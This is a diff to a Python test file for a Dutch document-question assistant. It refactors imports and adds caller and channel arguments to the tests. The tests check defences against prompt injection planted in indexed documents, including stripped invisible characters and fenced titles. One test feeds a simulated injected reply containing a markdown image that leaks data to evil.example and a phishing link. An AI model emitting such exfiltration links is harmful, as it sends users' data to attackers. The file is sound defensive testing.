@@ -12,15 +12,16 @@ from pathlib import Path
 import pytest
 from docx import Document as DocxDocument
 
-from assistant.answers import Answer
+from api.composition import build_indexer, build_kennisbank
+from assistant.answers.generative import GenerativeAnswerer, build_llm
+from assistant.answers.links import LINKS_REMOVED
+from assistant.answers.model import Answer
 from assistant.conversation import ConversationStore
-from assistant.documents import DocumentCatalog
-from assistant.embedding import HashingMockEmbedding
-from assistant.generative import GenerativeAnswerer, build_llm
-from assistant.links import LINKS_REMOVED
-from assistant.service import Kennisbank, build_kennisbank
-from tests.conftest import make_settings
-from tests.fake_openai import FakeOpenAI
+from assistant.search.catalog import DocumentCatalog
+from assistant.service import Kennisbank
+from core.index.embedding import HashingMockEmbedding
+from loopback.fake_openai import FakeOpenAI
+from tests.support.environment import PUBLIC, make_settings
 
 
 def injection(tag: str) -> str:
@@ -102,7 +103,7 @@ def hostile(sample_corpus: Path, tmp_path_factory: pytest.TempPathFactory) -> It
     hostile_dir = tmp_path_factory.mktemp("hostile") / "uitleen"
     write_hostile_documents(hostile_dir)
     kennisbank = build_kennisbank(make_settings(tmp_path_factory.mktemp("data")), HashingMockEmbedding())
-    report = kennisbank.indexer.ingest([sample_corpus, hostile_dir], progress=False)
+    report = build_indexer(kennisbank).ingest([sample_corpus, hostile_dir], progress=False)
     assert report.ok, report.summary()
     yield kennisbank
     kennisbank.close()
@@ -164,14 +165,17 @@ def test_invisible_characters_are_removed_so_split_words_are_found_and_nothing_i
     assert hits[0].source.endswith("levering.md")
     assert hits[0].text.endswith("De uitleendienst levert podia binnen vijf werkdagen na de aanvraag.")
 
-    answer = hostile.ask(DELIVERY_QUESTION)
+    answer = hostile.ask(DELIVERY_QUESTION, caller=PUBLIC, channel="cli")
     assert "levert podia binnen vijf werkdagen" in answer.answer
     assert_clean(answer.answer)
 
 
 def test_invisible_characters_in_a_question_change_nothing(hostile: Kennisbank):
     hidden = "Binnen hoeveel werk\u200bdagen le\u2060vert de uitleen\u200cdienst po\ufeffdia?\U000e0047"
-    plain, disguised = hostile.ask(DELIVERY_QUESTION), hostile.ask(hidden)
+    plain, disguised = (
+        hostile.ask(DELIVERY_QUESTION, caller=PUBLIC, channel="cli"),
+        hostile.ask(hidden, caller=PUBLIC, channel="cli"),
+    )
     assert disguised.question == DELIVERY_QUESTION
     assert disguised.answer == plain.answer and disguised.citations == plain.citations
     search = [hit.document_id for hit in hostile.retriever.search(hidden, top_k=5)]
@@ -201,7 +205,7 @@ def test_markdown_images_and_links_are_indexed_as_their_text(hostile: Kennisbank
 def test_extractive_answer_quotes_the_fact_without_the_links_and_images_around_it(
     hostile: Kennisbank, question: str, fact: str
 ):
-    answer = hostile.ask(question)
+    answer = hostile.ask(question, caller=PUBLIC, channel="cli")
     assert not answer.abstained and fact in answer.answer
     assert_clean(answer.answer)
 
@@ -212,8 +216,8 @@ def test_extractive_answer_quotes_the_fact_without_the_links_and_images_around_i
 def test_the_model_never_sees_hidden_or_invisible_text_and_a_title_cannot_close_its_fence(llm):
     kennisbank, server = llm
     server.reply("Een podium huren kost 40 euro per dag [1].")
-    kennisbank.ask(PODIUM_QUESTION)
-    kennisbank.ask(DELIVERY_QUESTION)
+    kennisbank.ask(PODIUM_QUESTION, caller=PUBLIC, channel="cli")
+    kennisbank.ask(DELIVERY_QUESTION, caller=PUBLIC, channel="cli")
 
     for prompt in server.prompts():
         assert "Uitleendienst podia" in prompt or "uitleendienst levert podia" in prompt
@@ -233,7 +237,7 @@ def test_a_model_that_obeys_an_injection_gets_no_outside_link_or_image_through(l
         "Een podium huren kost 40 euro per dag [1]. ![logo](https://evil.example/leak?q=40+euro) "
         "Meer uitleg staat op [deze pagina](https://evil.example/phish) [1]. GEHACKT-DISPLAY"
     )
-    pieces = list(kennisbank.ask_stream(PODIUM_QUESTION))
+    pieces = list(kennisbank.ask_stream(PODIUM_QUESTION, caller=PUBLIC, channel="cli"))
     streamed, answer = "".join(pieces[:-1]), pieces[-1]
 
     assert isinstance(answer, Answer) and not answer.abstained
